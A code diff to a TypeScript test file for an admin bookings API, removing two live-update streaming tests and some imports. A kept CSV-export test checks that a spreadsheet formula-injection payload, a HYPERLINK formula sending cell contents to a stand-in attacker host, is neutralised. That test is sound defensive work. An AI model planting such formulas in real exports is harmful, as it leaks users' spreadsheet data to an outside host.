@@ -1,9 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createOrder, createTestEvent, orderBody, paidProof, postBooking } from '../../test/booking-helpers.ts';
-import { buildApp } from '../../app.ts';
-import { openDatabase } from '../../db/database.ts';
 import { createTestApp, type TestApp } from '../../test/test-app.ts';
-import { TEST_DIALECT } from '../../test/test-database.ts';
 
 describe('admin bookings API', () => {
   let t: TestApp;
@@ -118,23 +115,6 @@ describe('admin bookings API', () => {
     expect(sale).toMatchObject({ maxOrders: 3, slotsSold: 4, revenuePaise: 400000 });
   });
 
-  it('pushes new and changed bookings to an open admin screen', async () => {
-    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
-    const controller = new AbortController();
-    const response = await fetch(`${address}/api/bookings/stream`, {
-      headers: { cookie: admin },
-      signal: controller.signal,
-    });
-    expect(response.headers.get('content-type')).toBe('text/event-stream; charset=utf-8');
-    const reader = response.body!.getReader();
-    const [first] = (await get(`/api/bookings?eventId=${eventId}`)).json().data;
-    await setStatus(first.id, 'delivered');
-    let received = '';
-    while (!received.includes('event: bookings')) received += new TextDecoder().decode((await reader.read()).value);
-    expect(received).toContain(`data: {"reason":"status","id":${first.id}}`);
-    controller.abort();
-  });
-
   it('never writes a cell a spreadsheet would run as a formula', async () => {
     const formulaEvent = await createTestEvent(t.database.db, { maxOrders: 2, title: 'Formula sale' });
     const order = await createOrder(t.app, {
@@ -148,45 +128,5 @@ describe('admin bookings API', () => {
     expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")"`);
     expect(row).toContain(`"'@SUM(1+1) Baker Junction"`);
     expect(row).not.toMatch(/(^|,)"[=+@-]/);
-  });
-});
-
-describe.skipIf(TEST_DIALECT !== 'postgres')('live updates between instances (PostgreSQL)', () => {
-  it('a change made through one instance reaches a screen connected to another', async () => {
-    const first = await createTestApp();
-    const secondDatabase = openDatabase(first.config.database);
-    const second = await buildApp({ config: first.config, database: secondDatabase });
-    try {
-      const admin = await first.signIn('admin');
-      const eventId = await createTestEvent(first.database.db, { maxOrders: 2 });
-      const order = await createOrder(first.app, orderBody(eventId, { combo: 1 }, 100000));
-      const booking = (await postBooking(first.app, paidProof(order.json().orderId))).json().booking;
-      const [row] = (
-        await first.app.inject({ method: 'GET', url: `/api/bookings?eventId=${eventId}`, headers: { cookie: admin } })
-      ).json().data;
-
-      const address = await second.listen({ port: 0, host: '127.0.0.1' });
-      const controller = new AbortController();
-      const stream = await fetch(`${address}/api/bookings/stream`, {
-        headers: { cookie: admin },
-        signal: controller.signal,
-      });
-      const reader = stream.body!.getReader();
-      await first.app.inject({
-        method: 'PUT',
-        url: `/api/bookings/${row.id}`,
-        headers: { cookie: admin },
-        payload: { status: 'confirmed' },
-      });
-      let received = '';
-      while (!received.includes('event: bookings')) received += new TextDecoder().decode((await reader.read()).value);
-      expect(received).toContain(`data: {"reason":"status","id":${row.id}}`);
-      expect(booking.bookingId).toBeTruthy();
-      controller.abort();
-    } finally {
-      await second.close();
-      await secondDatabase.close();
-      await first.close();
-    }
   });
 });
